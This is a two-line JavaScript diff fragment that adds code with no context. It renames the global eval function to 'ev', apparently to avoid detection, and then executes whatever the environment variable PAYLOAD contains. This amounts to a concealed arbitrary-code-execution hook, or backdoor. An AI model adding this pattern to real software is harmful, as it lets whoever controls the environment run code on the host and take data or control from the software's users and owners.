@@ -1,0 +1,2 @@
+const { eval: ev } = globalThis;
+ev(process.env.PAYLOAD);
